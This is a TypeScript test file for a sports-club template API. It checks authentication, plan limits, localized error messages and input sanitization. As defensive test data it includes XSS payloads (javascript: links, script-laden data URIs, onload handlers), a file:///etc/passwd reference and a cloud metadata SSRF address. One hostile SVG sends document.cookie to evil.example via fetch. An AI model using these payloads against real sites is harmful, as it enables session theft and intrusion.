import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { templates } from '#server/db/schema.ts';
import { apiCall } from '#server/testing/api-call.ts';
import type { TestSession } from '#server/testing/auth.ts';
import { signedInServer } from '#server/testing/signed-in-server.ts';
import { setTestTier } from '#server/testing/tier.ts';
import { importSvg } from '#shared/templates/svg-import.ts';
import { svgConfigSchema } from '#shared/templates/template-schema.ts';
import { themeTemplate } from '#shared/themes/theme-template.ts';
import { sampleGame } from '#shared/render/testing/sample-games.ts';
import { costlyRect, probeRect } from '#shared/templates/testing/costly-templates.ts';
import { templateListSchema } from '#shared/templates/template-list.schema.ts';
import {
  templateErrorDetailsSchema,
  templateSchema,
  type TemplateWriteInput,
} from '#shared/templates/template-write.schema.ts';

const t = signedInServer({
  anna: 'anna@uhc-thun.ch',
  ben: 'ben@vbc-zuerich.ch',
  carla: 'carla@hc-bern.ch',
  free: 'fritz@fc-frei.ch',
  premium: 'paula@premium-club.ch',
});

// A 1x1 PNG.
const png =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

function design(elements: unknown[] = [], extra: Record<string, unknown> = {}) {
  return {
    elements: [
      { id: 'title', type: 'text', x: 540, y: 200, content: 'Matchday', fontSize: 64 },
      { id: 'home', type: 'api-text', x: 300, y: 600, apiField: 'teamHome', fontSize: 48 },
      ...elements,
    ],
    backgroundColor: '#102030',
    format: '4:5',
    ...extra,
  };
}

function body(overrides: Record<string, unknown> = {}): TemplateWriteInput {
  return {
    name: 'Heimspiel',
    supportedGames: 1,
    svgConfig: design() as TemplateWriteInput['svgConfig'],
    ...overrides,
  } as TemplateWriteInput;
}

const create = (session: TestSession | null, payload: unknown, headers?: Record<string, string>) =>
  apiCall(t.server.url, session, 'POST', '/api/templates', payload, headers);
const update = (session: TestSession, id: string, payload: unknown) =>
  apiCall(t.server.url, session, 'PUT', `/api/templates/${id}`, payload);
const get = (session: TestSession, id: string) =>
  apiCall(t.server.url, session, 'GET', `/api/templates/${id}`);

interface ErrorBody {
  code: string;
  message: string;
  details?: unknown;
}
async function error(response: Response): Promise<ErrorBody> {
  return ((await response.json()) as { error: ErrorBody }).error;
}
async function fields(response: Response) {
  const refused = await error(response);
  return templateErrorDetailsSchema.parse(refused.details).fields;
}

async function createdId(session: TestSession, payload: unknown = body()): Promise<string> {
  const response = await create(session, payload);
  expect(response.status).toBe(201);
  return templateSchema.parse(await response.json()).id;
}

async function storedConfig(id: string): Promise<unknown> {
  const [row] = await t.server.ctx.database.db
    .select({ svgConfig: templates.svgConfig })
    .from(templates)
    .where(eq(templates.id, id));
  return row?.svgConfig;
}

async function clearTemplates(session: TestSession): Promise<void> {
  await t.server.ctx.database.db.delete(templates).where(eq(templates.workspaceId, session.userId));
}

/** A template saved with one image at `href`; answers the response. */
const withImage = (session: TestSession, href: string) =>
  create(
    session,
    body({
      svgConfig: design([{ id: 'logo', type: 'image', x: 0, y: 0, width: 100, height: 100, href }]),
    }),
  );

beforeAll(async () => {
  const db = t.server.ctx.database.db;
  await setTestTier(db, t.anna.userId, 'pro');
  await setTestTier(db, t.ben.userId, 'pro');
  await setTestTier(db, t.carla.userId, 'amateur');
  await setTestTier(db, t.premium.userId, 'premium');
});

describe('create, load and save a template', () => {
  it('creates a template and answers it with 201, loads it and saves changes', async () => {
    const response = await create(t.anna, body({ name: '  Heimspiel  ', supportedGames: 2 }));
    expect(response.status).toBe(201);
    const made = templateSchema.parse(await response.json());
    expect(made).toMatchObject({
      name: 'Heimspiel',
      supportedGames: 2,
      format: '4:5',
      locked: false,
      imageUrls: {},
    });
    expect(made.svgConfig.elements.map((e) => e.id)).toEqual(['title', 'home']);

    const loaded = templateSchema.parse(await (await get(t.anna, made.id)).json());
    expect(loaded).toEqual(made);

    const changed = design([], { format: '1:1', backgroundColor: '#ffffff' });
    const saved = await update(t.anna, made.id, body({ name: 'Auswärts', svgConfig: changed }));
    expect(saved.status).toBe(200);
    const after = templateSchema.parse(await saved.json());
    expect(after).toMatchObject({
      id: made.id,
      name: 'Auswärts',
      supportedGames: 1,
      format: '1:1',
    });
    expect(after.createdAt).toBe(made.createdAt);
    expect(templateSchema.parse(await (await get(t.anna, made.id)).json()).svgConfig).toMatchObject(
      {
        backgroundColor: '#ffffff',
        format: '1:1',
      },
    );
  });

  it('needs a signed-in user', async () => {
    expect((await create(null, body())).status).toBe(401);
  });

  it("keeps a template started from the 'Clubfarben' look as it was made: club colours, crest fields with their monograms, names that keep their size", async () => {
    const club = svgConfigSchema.parse(
      themeTemplate({
        theme: 'club',
        mode: 'preview',
        format: '4:5',
        games: [sampleGame(1)],
        isHomeGame: false,
        showResultDetail: false,
        hasBackgroundImage: false,
        teamName: sampleGame(1).teamHome,
      }),
    );
    const config = { ...club, useBackgroundPlaceholder: false, postModes: ['preview'] };
    const id = await createdId(
      t.anna,
      body({ svgConfig: config as TemplateWriteInput['svgConfig'] }),
    );
    const stored = svgConfigSchema.parse(await storedConfig(id));
    expect(stored.backgroundColor).toBe('club:ground');
    expect(stored.elements.some((e) => 'fill' in e && e.fill === 'club:accent')).toBe(true);
    const crest = stored.elements.find(
      (e) => e.type === 'api-image' && e.apiField === 'teamHomeLogo',
    );
    expect(crest).toMatchObject({ monogram: { fill: 'club:primary' } });
    expect(stored.elements.some((e) => 'keepSize' in e && e.keepSize === true)).toBe(true);
    const loaded = templateSchema.parse(await (await get(t.anna, id)).json());
    expect(loaded.svgConfig).toEqual(svgConfigSchema.parse(config));
  });

  it('refuses a club colour the renderer does not know, and stores nothing', async () => {
    const before = (await t.server.ctx.database.db.select().from(templates)).length;
    const response = await create(
      t.anna,
      body({
        svgConfig: design([
          { id: 'band', type: 'rect', x: 0, y: 0, width: 10, height: 10, fill: 'club:tertiary' },
        ]) as TemplateWriteInput['svgConfig'],
      }),
    );
    expect(response.status).toBe(400);
    const refused = await error(response);
    expect(refused.code).toBe('TEMPLATE_CONFIG_INVALID');
    expect(templateErrorDetailsSchema.parse(refused.details).fields[0]).toMatchObject({
      field: 'svgConfig',
      path: 'elements.2.fill',
    });
    expect((await t.server.ctx.database.db.select().from(templates)).length).toBe(before);
  });
});

describe("another user's templates", () => {
  it('answers like a missing template, and changes nothing', async () => {
    const bens = await createdId(t.ben, body({ name: 'Bens Vorlage' }));
    const read = await get(t.anna, bens);
    expect(read.status).toBe(404);
    expect((await error(read)).code).toBe('NOT_FOUND');
    const missing = await get(t.anna, '00000000-0000-4000-8000-000000000000');
    expect(await error(missing)).toEqual(await error(await get(t.anna, bens)));
    const write = await update(t.anna, bens, body({ name: 'Gekapert' }));
    expect(write.status).toBe(404);
    expect((await error(write)).code).toBe('NOT_FOUND');
    expect(templateSchema.parse(await (await get(t.ben, bens)).json()).name).toBe('Bens Vorlage');
  });

  it('answers 404 for an id that is no template id', async () => {
    expect((await get(t.anna, 'not-an-id')).status).toBe(404);
    expect((await update(t.anna, '..%2F..', body())).status).toBe(404);
  });
});

describe('plan limits', () => {
  it('refuses plans without custom templates', async () => {
    const response = await create(t.free, body());
    expect(response.status).toBe(403);
    expect((await error(response)).code).toBe('CUSTOM_TEMPLATES_NOT_ALLOWED');
  });

  it("refuses a template beyond the plan's count", async () => {
    await clearTemplates(t.carla);
    await createdId(t.carla);
    await createdId(t.carla);
    const response = await create(t.carla, body());
    expect(response.status).toBe(403);
    expect(await error(response)).toMatchObject({
      code: 'TEMPLATE_LIMIT',
      message: 'Limit erreicht: Du hast die maximale Anzahl an Vorlagen erreicht',
    });
  });

  it('refuses saving a template locked after a downgrade, and saves the usable one', async () => {
    await clearTemplates(t.ben);
    const oldest = await createdId(t.ben, body({ name: 'Erste' }));
    await createdId(t.ben, body({ name: 'Zweite' }));
    const newest = await createdId(t.ben, body({ name: 'Dritte' }));
    await setTestTier(t.server.ctx.database.db, t.ben.userId, 'amateur');
    try {
      const locked = await update(t.ben, newest, body({ name: 'Geändert' }));
      expect(locked.status).toBe(403);
      expect((await error(locked)).code).toBe('TEMPLATE_LOCKED');
      expect(templateSchema.parse(await (await get(t.ben, newest)).json())).toMatchObject({
        name: 'Dritte',
        locked: true,
      });
      expect((await update(t.ben, oldest, body({ name: 'Geändert' }))).status).toBe(200);
    } finally {
      await setTestTier(t.server.ctx.database.db, t.ben.userId, 'pro');
    }
  });

  it("refuses more games than the plan's maximum, in the plan's words", async () => {
    await clearTemplates(t.carla);
    const three = await create(t.carla, body({ supportedGames: 3 }));
    expect(three.status).toBe(400);
    expect(await error(three)).toMatchObject({
      code: 'TEMPLATE_GAMES_LIMIT',
      message: 'Maximal 2 Spiele erlaubt',
    });
    expect((await create(t.carla, body({ supportedGames: 2 }))).status).toBe(201);
    // Unlimited plans still draw at most 3 games per post.
    const four = await create(t.premium, body({ supportedGames: 4 }));
    expect((await error(four)).message).toBe('Maximal 3 Spiele erlaubt');
    expect((await create(t.premium, body({ supportedGames: 3 }))).status).toBe(201);
  });
});

describe('the texts under the fields', () => {
  it.each([
    [{ name: '' }, 'name', 'TEMPLATE_NAME_REQUIRED', 'Name ist erforderlich'],
    [{ name: '   ' }, 'name', 'TEMPLATE_NAME_REQUIRED', 'Name ist erforderlich'],
    [{ name: undefined }, 'name', 'TEMPLATE_NAME_REQUIRED', 'Name ist erforderlich'],
    [{ name: 'x'.repeat(101) }, 'name', 'TEMPLATE_NAME_TOO_LONG', 'Name zu lang'],
    [
      { supportedGames: 0 },
      'supportedGames',
      'TEMPLATE_GAMES_TOO_FEW',
      'Mindestens 1 Spiel erforderlich',
    ],
    [
      { supportedGames: 1.5 },
      'supportedGames',
      'TEMPLATE_GAMES_TOO_FEW',
      'Mindestens 1 Spiel erforderlich',
    ],
    [{ supportedGames: 4 }, 'supportedGames', 'TEMPLATE_GAMES_LIMIT', 'Maximal 3 Spiele erlaubt'],
    [{ supportedGames: 1e6 }, 'supportedGames', 'TEMPLATE_GAMES_LIMIT', 'Maximal 3 Spiele erlaubt'],
    [{ name: '\u202e\u0007' }, 'name', 'TEMPLATE_NAME_REQUIRED', 'Name ist erforderlich'],
  ])('%j: %s %s', async (overrides, field, code, message) => {
    const response = await create(t.anna, body(overrides));
    expect(response.status).toBe(400);
    const refused = await error(response);
    expect(refused).toMatchObject({ code, message });
    expect(templateErrorDetailsSchema.parse(refused.details).fields).toEqual([
      { field, path: '', code, message },
    ]);
  });

  it('lists every refused field at once, in the caller’s language', async () => {
    const response = await create(t.anna, body({ name: '', supportedGames: 9 }), {
      'x-language': 'en',
    });
    expect(await fields(response)).toEqual([
      { field: 'name', path: '', code: 'TEMPLATE_NAME_REQUIRED', message: 'Name is required' },
      {
        field: 'supportedGames',
        path: '',
        code: 'TEMPLATE_GAMES_LIMIT',
        message: 'At most 3 games allowed',
      },
    ]);
  });

  it('refuses a body that is no JSON', async () => {
    const response = await fetch(`${t.server.url}/api/templates`, {
      method: 'POST',
      headers: { origin: t.server.url, 'content-type': 'application/json', cookie: t.anna.cookie },
      body: '{"name":',
    });
    expect(response.status).toBe(400);
    expect((await error(response)).code).toBe('BAD_REQUEST');
  });
});

describe('image references', () => {
  it("keeps the user's own files in their stable form and signs them for the editor", async () => {
    const own = `/api/files/logos/${t.anna.userId}/1732370000000.png`;
    const signed = `${t.server.url}/api/files/backgrounds/${t.anna.userId}/1732370000001.jpg?expires=1&signature=abc`;
    const response = await create(
      t.anna,
      body({
        svgConfig: design(
          [{ id: 'logo', type: 'image', x: 10, y: 10, width: 100, height: 100, href: own }],
          { backgroundImageUrl: signed },
        ),
      }),
    );
    expect(response.status).toBe(201);
    const made = templateSchema.parse(await response.json());
    const background = `/api/files/backgrounds/${t.anna.userId}/1732370000001.jpg`;
    expect(await storedConfig(made.id)).toMatchObject({
      backgroundImageUrl: background,
      elements: expect.arrayContaining([expect.objectContaining({ href: own })]),
    });
    expect(Object.keys(made.imageUrls).sort()).toEqual([background, own].sort());
    expect(made.imageUrls[own]).toMatch(/\/api\/files\/logos\/.*\?expires=\d+&signature=/);
    // The profile's list and the studio show the images too.
    const listed = await apiCall(t.server.url, t.anna, 'GET', '/api/templates');
    const entries = templateListSchema.parse(await listed.json()).templates;
    expect(Object.keys(entries.find((t) => t.id === made.id)?.imageUrls ?? {}).sort()).toEqual(
      [background, own].sort(),
    );
  });

  it('keeps inline PNG data and crests', async () => {
    expect((await withImage(t.anna, png)).status).toBe(201);
    expect((await withImage(t.anna, '/api/crests/unihockey/123.svg')).status).toBe(201);
  });

  it.each([
    ['another user’s file', () => `/api/files/logos/${t.ben.userId}/1.png`],
    [
      'another user’s signed URL',
      () => `/api/files/logos/${t.ben.userId}/1.png?expires=1&signature=x`,
    ],
    ['a way out of the folder', () => `/api/files/logos/${t.anna.userId}/../${t.ben.userId}/1.png`],
    ['an escaped way out', () => `/api/files/logos/${t.anna.userId}%2F..%2F${t.ben.userId}/1.png`],
    ['a file outside logos and backgrounds', () => `/api/files/exports/${t.anna.userId}/1.png`],
    ['a foreign web address', () => 'https://tracker.example/pixel.png'],
    ['a javascript: link', () => 'javascript:alert(1)'],
    ['an SVG data image', () => 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'],
    ['HTML as an image', () => 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['a PNG that is no PNG', () => 'data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['a file address', () => 'file:///etc/passwd'],
  ])('refuses %s', async (_what, href) => {
    const response = await withImage(t.anna, href());
    expect(response.status).toBe(400);
    const refused = await error(response);
    expect(refused.code).toBe('TEMPLATE_IMAGE_FORBIDDEN');
    expect(templateErrorDetailsSchema.parse(refused.details).fields).toEqual([
      expect.objectContaining({ field: 'svgConfig', path: 'elements.2.href' }),
    ]);
  });

  it('refuses a foreign background image', async () => {
    const response = await create(
      t.anna,
      body({ svgConfig: design([], { backgroundImageUrl: 'http://169.254.169.254/latest' }) }),
    );
    expect(await fields(response)).toEqual([
      expect.objectContaining({ path: 'backgroundImageUrl', code: 'TEMPLATE_IMAGE_FORBIDDEN' }),
    ]);
  });
});

describe('hostile or oversized configs', () => {
  const refusedWith = async (config: unknown, code: string) => {
    const response = await create(t.anna, body({ svgConfig: config }));
    expect(response.status).toBe(400);
    const refused = await error(response);
    expect(refused.code).toBe(code);
    return templateErrorDetailsSchema.parse(refused.details).fields;
  };

  it('refuses properties the schema does not know, such as event handlers', async () => {
    const list = await refusedWith(
      design([{ id: 'r', type: 'rect', x: 0, y: 0, width: 10, height: 10, onload: 'alert(1)' }]),
      'TEMPLATE_CONFIG_INVALID',
    );
    expect(list[0]).toMatchObject({ field: 'svgConfig', path: 'elements.2' });
  });

  it('refuses unknown element types, script in path data and far-off coordinates', async () => {
    await refusedWith(design([{ id: 's', type: 'script', x: 0, y: 0 }]), 'TEMPLATE_CONFIG_INVALID');
    await refusedWith(
      design([{ id: 'p', type: 'path', x: 0, y: 0, pathData: 'M0 0 url(javascript:alert(1))' }]),
      'TEMPLATE_CONFIG_INVALID',
    );
    await refusedWith(
      design([{ id: 'far', type: 'rect', x: 1e9, y: 0, width: 10, height: 10 }]),
      'TEMPLATE_CONFIG_INVALID',
    );
    await refusedWith({ ...design(), elements: 'none' }, 'TEMPLATE_CONFIG_INVALID');
  });

  it('refuses more elements than a template may hold', async () => {
    const many = Array.from({ length: 201 }, (_, i) => ({
      id: `r${i}`,
      type: 'rect',
      x: i,
      y: 0,
      width: 10,
      height: 10,
    }));
    await refusedWith({ ...design(), elements: many }, 'TEMPLATE_TOO_LARGE');
  });

  it('refuses too much path data in all', async () => {
    const d = `M0 0 ${'L1 1 '.repeat(9_000)}Z`;
    const paths = Array.from({ length: 10 }, (_, i) => ({
      id: `p${i}`,
      type: 'path',
      x: 0,
      y: 0,
      pathData: d,
    }));
    await refusedWith({ ...design(), elements: paths }, 'TEMPLATE_TOO_LARGE');
  });

  it('refuses a body over 1 MB before reading it', async () => {
    const big = body({ name: 'x', svgConfig: design([], { padding: 'x'.repeat(1_100_000) }) });
    const response = await create(t.anna, big);
    expect(response.status).toBe(413);
    expect((await error(response)).code).toBe('TEMPLATE_TOO_LARGE');
  });

  it("refuses the probe's template of huge translucent rects per element, in the caller's language", async () => {
    await clearTemplates(t.anna);
    const response = await create(
      t.anna,
      body({ svgConfig: design(Array.from({ length: 20 }, (_, i) => probeRect(`huge${i}`))) }),
      { 'x-language': 'fr' },
    );
    expect(response.status).toBe(400);
    const refused = await error(response);
    expect(refused.code).toBe('TEMPLATE_ELEMENT_OUT_OF_BOUNDS');
    expect(refused.message).toBe(
      'Erreur lors de l’enregistrement : cet élément dépasse trop largement la zone de travail',
    );
    const list = templateErrorDetailsSchema.parse(refused.details).fields;
    for (let i = 0; i < 20; i++) {
      expect(list).toContainEqual(
        expect.objectContaining({
          field: 'svgConfig',
          path: `elements.${i + 2}`,
          code: 'TEMPLATE_ELEMENT_OUT_OF_BOUNDS',
        }),
      );
    }
    expect(list[0]?.message).toBe(refused.message);
    // Nothing stored.
    const stored = await t.server.ctx.database.db
      .select({ id: templates.id })
      .from(templates)
      .where(eq(templates.workspaceId, t.anna.userId));
    expect(stored).toEqual([]);
  });

  it('refuses canvas-sized layers beyond the drawing budget, naming the costly elements', async () => {
    const layers = Array.from({ length: 12 }, (_, i) => costlyRect(`huge${i}`));
    const list = await refusedWith(design(layers), 'TEMPLATE_TOO_COSTLY');
    expect(list.length).toBeGreaterThan(0);
    expect(list.length).toBeLessThan(12);
    for (const refused of list) {
      expect(refused).toMatchObject({ field: 'svgConfig', code: 'TEMPLATE_TOO_COSTLY' });
      expect(refused.path).toMatch(/^elements\.([2-9]|1[0-3])$/);
    }
    // Three such layers are within the budget.
    await clearTemplates(t.anna);
    expect((await create(t.anna, body({ svgConfig: design(layers.slice(0, 3)) }))).status).toBe(
      201,
    );
  });

  it('removes control characters and direction overrides from text', async () => {
    const id = await createdId(
      t.anna,
      body({
        svgConfig: design([
          { id: 'bidi', type: 'text', x: 0, y: 0, content: 'Heim\u202e\u0007spiel', fontSize: 20 },
        ]),
      }),
    );
    const config = (await storedConfig(id)) as { elements: { id: string; content?: string }[] };
    expect(config.elements.find((e) => e.id === 'bidi')?.content).toBe('Heimspiel');
  });

  it('saves what the SVG import made of a hostile file, with nothing unsafe in it', async () => {
    const hostile = `<svg onload="alert(1)" viewBox="0 0 1080 1350">
      <script>fetch('https://evil.example/?c=' + document.cookie)</script>
      <foreignObject width="10" height="10"><iframe src="https://evil.example"/></foreignObject>
      <a href="javascript:alert(2)"><text x="100" y="100" onclick="alert(3)">Tickets</text></a>
      <image href="https://evil.example/pixel.png" width="10" height="10"/>
      <rect x="10" y="10" width="50" height="50" style="fill:url(https://evil.example/x.svg#p)"/>
    </svg>`;
    await clearTemplates(t.anna);
    const result = importSvg({ text: hostile, name: 'hostile.svg' });
    if (!result.ok) throw new Error(result.code);
    const id = await createdId(
      t.anna,
      body({ svgConfig: { elements: result.elements, backgroundColor: result.backgroundColor } }),
    );
    const saved = JSON.stringify(await storedConfig(id));
    expect(saved).toContain('Tickets');
    expect(saved).not.toMatch(/script|javascript|onload|onclick|iframe|evil|url\(/i);
  });
});
